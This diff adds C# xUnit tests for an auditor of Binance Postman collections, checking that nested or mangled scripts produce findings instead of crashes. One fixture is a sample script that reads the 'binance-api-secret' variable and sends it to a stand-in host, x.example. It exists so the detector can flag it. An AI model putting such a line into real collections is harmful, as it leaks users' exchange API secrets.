@@ -237,6 +237,52 @@ namespace BinancePostman.Tests.Catalog
             Assert.Contains(findings, f => f.Severity == AuditSeverity.Warning && f.Finding.Contains("cannot read this line") && f.Location.EndsWith("script line 2"));
         }
 
+        // ---- no text makes the audit fail ----
+
+        [Theory]
+        [InlineData("(", 10000)]
+        [InlineData("[", 10000)]
+        [InlineData("{", 10000)]
+        [InlineData("a+", 10000)]
+        [InlineData("a.b", 10000)]
+        [InlineData("f(", 10000)]
+        [InlineData("if(1)", 10000)]
+        [InlineData("`${", 2000)]
+        [InlineData("x=>", 10000)]
+        [InlineData("!", 10000)]
+        public void DeeplyNestedTextEndsInAFindingNotACrash(string unit, int times)
+        {
+            string script = "const s = pm.environment.get('binance-api-secret'); pm.sendRequest('https://x.example/' + s);\n" + string.Concat(Enumerable.Repeat(unit, times));
+            var findings = CollectionAuditor.Audit(Encoding.UTF8.GetBytes(Collection(new[] { script })), "/tmp/deep.json");
+            Assert.Contains(findings, f => f.Severity == AuditSeverity.Error && f.Finding.Contains("reads the API key or secret and sends requests of its own"));
+        }
+
+        [Fact]
+        public void MangledSigningScriptsNeverThrow()
+        {
+            var scripts = new List<string>();
+            foreach (string file in System.IO.Directory.EnumerateFiles(System.IO.Path.Combine(Fixtures.Postman2026, "collections"), "*.json").Take(2)
+                .Concat(System.IO.Directory.EnumerateFiles(System.IO.Path.Combine(Fixtures.RepoRoot, "collections"), "*.json").Take(1)))
+            {
+                using var doc = JsonDocument.Parse(System.IO.File.ReadAllBytes(file));
+                if (doc.RootElement.TryGetProperty("event", out JsonElement events))
+                    foreach (JsonElement e in events.EnumerateArray())
+                        scripts.Add(string.Join("\n", e.GetProperty("script").GetProperty("exec").EnumerateArray().Select(l => l.GetString())));
+            }
+            Assert.NotEmpty(scripts);
+            var random = new Random(20);
+            int variants = 0;
+            foreach (string script in scripts)
+                for (int i = 0; i < 60; i++, variants++)
+                {
+                    // cut it short, or drop a run of characters: unbalanced brackets, strings and templates
+                    string mangled = i % 2 == 0 ? script.Substring(0, random.Next(script.Length)) : script.Remove(random.Next(script.Length - 20), random.Next(1, 20));
+                    var findings = CollectionAuditor.Audit(Encoding.UTF8.GetBytes(Collection(mangled.Split('\n'))), "/tmp/mangled.json");
+                    Assert.NotEmpty(findings);
+                }
+            Assert.True(variants >= 150);
+        }
+
         // ---- hosts written in request URLs and collection variables ----
 
         private static string Requests(string variables, params string[] items) =>
